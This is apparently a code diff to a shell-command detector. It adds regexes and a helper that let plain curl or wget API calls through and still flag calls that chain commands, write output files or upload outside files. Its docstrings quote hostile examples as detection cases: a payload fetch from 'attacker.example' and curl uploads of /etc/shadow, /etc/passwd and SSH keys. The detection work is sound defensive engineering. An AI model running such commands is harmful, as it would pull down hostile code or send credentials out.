@@ -638,6 +638,40 @@ _WRITTEN_AS_COMMAND_LINE = re.compile(
 also behind a crontab schedule (``*/15 * * * * /usr/local/bin/sync``)."""
 
 
+_REQUEST_OPTION = re.compile(
+    r"\s-(?:X\s*[A-Z]+|H\b|d\b|F\b|I\b|u\b|-header\b|-data(?:-raw|-binary|-urlencode)?\b"
+    r"|-json\b|-form\b|-head\b|-user\b|-request\b)"
+)
+_LEAVES_THE_CALL = re.compile(
+    r"[;\n`$<>]|&&|\|\||\|(?!\|)|\s(?:-[oO]|--output)(?![ \t=]*/dev/null\b)|\s(?:-K|--config)\b"
+    r"|\bfile://"
+)
+_OUTSIDE_FILE = re.compile(r"@(?!(?:\./)?\w)")
+"""A file sent from outside the working directory (@/etc/passwd, @~/.ssh/id_rsa, @.env,
+@../config.yml, @$HOME/…); ``@./report.pdf`` and an address (``a@example.com``) are not."""
+_SINGLE_QUOTED = re.compile(r"'[^'\n]*'")
+_DOUBLE_QUOTED = re.compile(r'"[^"\n]*"')
+_EXPANDS = re.compile(r"[^$`]")
+
+
+def _calls_an_api(view: str) -> bool:
+    """Whether the whole value is one curl or wget call of an API, as API documentation shows
+    it: it opens with the command, shapes a request (a method, a header, data, a form, a
+    user), and nothing leaves the call: no chaining, substitution, redirection or variable
+    outside quotes (and no $ or backtick inside double ones), no output file but
+    ``/dev/null``, no config file, no file sent
+    from outside the working directory (:data:`_OUTSIDE_FILE`), no ``file://``.
+    ``curl -X POST https://api.example.com/v1/orders -H '…' -d '{…}'``; not ``curl
+    http://attacker.example/x.sh -o /tmp/x`` or ``curl -F f=@/etc/shadow …``."""
+    literal = _SINGLE_QUOTED.sub("''", view)
+    # Inside double quotes only $ and ` still expand (-H "Authorization: Bearer <token>").
+    literal = _DOUBLE_QUOTED.sub(lambda quoted: _EXPANDS.sub("x", quoted.group()), literal)
+    return (_FETCH_COMMAND.match(view.lstrip()) is not None
+            and _REQUEST_OPTION.search(literal) is not None
+            and _LEAVES_THE_CALL.search(literal) is None
+            and _OUTSIDE_FILE.search(view) is None)
+
+
 def fetch_runs(fragment: str, view: str) -> bool:
     """A download command (``curl -f http://…``) runs where a command starts, as
     :func:`shell_path_runs` reads it; after a label or in a sentence (``healthcheck: curl -f
@@ -651,7 +685,7 @@ def fetch_runs(fragment: str, view: str) -> bool:
     if _in_prose_code_span(fragment, view):
         return False
     if _FETCH_COMMAND.match(fragment):
-        return _at_command_position(fragment, view)
+        return _at_command_position(fragment, view) and not _calls_an_api(view)
     if not _HOUSEKEEPING.match(fragment) or _STAGED_PROGRAM.search(view):
         return True
     at = locate(view, fragment)
